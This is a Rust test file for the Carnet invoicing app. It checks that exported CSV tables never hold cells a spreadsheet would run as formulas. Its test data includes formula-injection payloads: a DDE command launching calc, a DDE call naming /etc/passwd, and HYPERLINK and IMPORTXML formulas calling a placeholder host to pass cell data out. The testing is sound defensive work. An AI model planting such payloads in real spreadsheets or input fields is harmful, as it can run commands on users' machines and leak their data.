//! R25: no cell of a table that Carnet writes is run by a spreadsheet, and each comes back as the text that it was.
//!
//! A spreadsheet takes a cell that begins with `= + - @`, a tab or a return for a formula, unless it is a number. The cells are
//! read here by the `csv` crate and judged by that rule.

use carnet_app::wire::clients::{ClientRequest, ClientsRequest};
use carnet_app::wire::invoices::{InvoiceIssue, InvoiceRequest, PaymentRequest};
use carnet_app::wire::quotes::LineRequest;
use carnet_app::{Carnet, clients, invoices};
use carnet_tests::Desk;
use std::collections::BTreeSet;

const DAY: &str = "2026-11-21";

/// A hundred texts that a spreadsheet would run, no two alike.
fn payloads() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://exemple.invalid/?\"&A1;\"facture\")",
        "SUM(A1:A9)",
        "IMPORTXML(\"http://exemple.invalid\",\"//a\")",
        "2;3",
        "\"; =1+1; \"",
        "DDE(\"soffice\";\"/etc/passwd\";1)",
        "1e3",
    ];
    let mut found = Vec::new();
    for body in bodies {
        for head in ["=", "+", "-", "@", "==", "'=", "+-", "=\"", "-+", "@@", "+=", "=-"] {
            // The import takes names that differ by their signs alone for one: each has a number of its own.
            let rank = found.len();
            found.push(format!("{head}{body} n{rank}"));
        }
    }
    found.truncate(100);
    found
}

/// Every cell of a table, its head left out.
fn cells(bytes: &[u8]) -> Vec<String> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("the mark by which spreadsheets know UTF-8");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').flexible(true).from_reader(text);
    reader
        .records()
        .flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn is_number(cell: &str) -> bool {
    cell.strip_prefix('-').unwrap_or(cell).replace(',', ".").parse::<f64>().is_ok()
        && cell.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'-' | b',' | b'.'))
}

/// Returns the cells that a spreadsheet would run.
fn live(cells: &[String]) -> Vec<&String> {
    let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !is_number(cell);
    cells.iter().filter(runs).collect()
}

fn fill(carnet: &mut Carnet) {
    for text in payloads() {
        let client =
            ClientRequest { name: Some(text.clone()), note: Some(text.clone()), ..ClientRequest::default() };
        clients::save(carnet, client).expect("a client");
    }
    let lines = payloads().into_iter().map(|description| LineRequest {
        description,
        quantity: "1".to_owned(),
        unit: "u".to_owned(),
        unit_price: "1".to_owned(),
        ..LineRequest::default()
    });
    let request = InvoiceRequest {
        client: "1".to_owned(),
        subject: Some("=1+1".to_owned()),
        lines: lines.collect(),
        ..InvoiceRequest::default()
    };
    let draft = invoices::save(carnet, request).expect("a draft").value;
    let issue = InvoiceIssue { id: draft.id, ..InvoiceIssue::default() };
    let number = invoices::issue(carnet, issue).expect("it is issued").value.number.expect("a number");
    for (amount, note) in [("100", None), ("-40", Some("@rendu"))] {
        let request = PaymentRequest {
            invoice: number.clone(),
            amount: amount.to_owned(),
            method: "transfer".to_owned(),
            note: note.map(str::to_owned),
            ..PaymentRequest::default()
        };
        invoices::pay(carnet, request).expect("it is paid");
    }
}

#[test]
fn a_hundred_formulas_stay_texts_and_come_back() {
    let desk = Desk::new(DAY, "franchise");
    let payloads = payloads();
    assert_eq!(payloads.iter().collect::<BTreeSet<_>>().len(), 100, "a hundred different texts");
    fill(&mut desk.open());
    let out = desk.folder().join("export");
    desk.json(&["export", out.to_str().unwrap()]);
    let mut tables: Vec<(String, Vec<u8>)> = Vec::new();
    for entry in std::fs::read_dir(out.join("csv")).unwrap().flatten() {
        tables.push((entry.file_name().into_string().unwrap(), std::fs::read(entry.path()).unwrap()));
    }
    for book in [&["report", "receipts", "--year", "2026"][..], &["accounting", "--from", DAY, "--to", DAY]] {
        let file = desk.folder().join(format!("{}.csv", book[0]));
        desk.json(&[book, &["-o", file.to_str().unwrap()]].concat());
        tables.push((book.join(" "), std::fs::read(file).unwrap()));
    }
    let (mut count, mut negative, mut seen) = (0, 0, 0);
    for (name, bytes) in &tables {
        let cells = cells(bytes);
        assert_eq!(live(&cells), Vec::<&String>::new(), "{name}");
        count += cells.len();
        negative += cells.iter().filter(|cell| cell.starts_with('-')).count();
        seen += cells.iter().filter(|cell| cell.contains("HYPERLINK")).count();
    }
    assert!(count > 1_000 && seen >= 30, "the texts are there: {seen} of {count} cells");
    assert!(negative >= 2, "money given back stays a number: {negative}");

    let fresh = Desk::new(DAY, "franchise");
    let file = out.join("csv/clients.csv");
    let read = fresh.json(&["client", "import", file.to_str().unwrap()]);
    assert_eq!(read["refused"].as_array().unwrap().len(), 0, "{read}");
    assert_eq!(names(&fresh), names(&desk), "the own import gives the texts back");
}

fn names(desk: &Desk) -> BTreeSet<String> {
    let list = clients::list(&desk.open(), ClientsRequest::default()).expect("a list");
    list.clients.into_iter().map(|client| client.name).collect()
}

/// What a table of ours would hold if a text were let through: the rule itself can fail.
#[test]
fn the_rule_knows_a_formula() {
    let dangerous = ["=1", "+1+1", "-1+1", "@A", "\t=1", "-"].map(str::to_owned);
    assert_eq!(live(&dangerous).len(), dangerous.len());
    let harmless = ["-12,50", "1200.00", "'=1", "Acme", ""].map(str::to_owned);
    assert!(live(&harmless).is_empty());
}
